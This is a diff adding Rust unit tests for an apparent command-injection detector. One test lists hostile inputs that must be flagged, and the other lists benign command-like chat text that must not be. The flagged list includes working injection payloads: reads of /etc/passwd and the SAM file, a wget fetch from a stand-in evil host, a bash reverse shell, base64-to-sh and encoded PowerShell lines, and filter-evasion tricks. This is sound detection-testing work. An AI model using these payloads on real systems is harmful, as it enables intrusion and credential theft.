@@ -1,0 +1,63 @@
+use super::super::SURE;
+use super::judge;
+
+fn strength(text: &str) -> u8 {
+    judge(text.as_bytes()).map_or(0, |hit| hit.strength)
+}
+
+#[test]
+fn injected_commands_are_sure() {
+    for text in [
+        "; cat /etc/passwd",
+        "| id",
+        "&& whoami",
+        "$(sleep 5)",
+        "`id`",
+        "127.0.0.1; ls -la",
+        "127.0.0.1 && ls /etc",
+        "x'; wget http://evil.example/x.sh",
+        "; c'a't /etc/passwd",
+        ";cat$IFS/etc/passwd",
+        "cat${IFS}/etc/passwd",
+        "; cat /et?/pa?swd",
+        "/???/??t /???/p??s??",
+        "cat ${HOME:0:1}etc${HOME:0:1}passwd",
+        "echo aWQ= | base64 -d | sh",
+        "{cat,/etc/passwd}",
+        "() { :;}; /bin/sh -c \"id\"",
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
+        "& for /f \"delims=\" %i in ('cmd /c whoami') do @echo %i",
+        "who`echo am`i",
+        "cmd=cat /etc/passwd",
+        "| type %SYSTEMROOT%\\repair\\SAM",
+        "%COMSPEC:~0,1%d",
+    ] {
+        assert!(strength(text) >= SURE, "{text}: {:?}", judge(text.as_bytes()));
+    }
+}
+
+#[test]
+fn commands_people_talk_about_are_not() {
+    for text in [
+        "run apt-get install foo; then reboot",
+        "sudo apt-get update && sudo apt-get upgrade",
+        "ls -al /usr/share/nginx/html/",
+        "gzip -cd filename.tgz | tar xvf -",
+        "!topic | colin_",
+        "sudo apt-get install linux-headers-$(uname -r)",
+        "what does `ls -l` show you",
+        "is there a cat; who knows",
+        "R&D; time is short",
+        "mount 127.0.0.1:/test /testmnt",
+        "did you edit /etc/fstab?",
+        "a & b | c",
+        "for (let i = 1; i <= 100; i++) { id = 3; }",
+        "if n == 0: return 1",
+        "$(document).ready(function() {})",
+        "it's $5; or 6",
+        "jrib : so all I need to do is edit /etc/fstab ?",
+    ] {
+        assert!(strength(text) < SURE, "{text}: {:?}", judge(text.as_bytes()));
+    }
+}
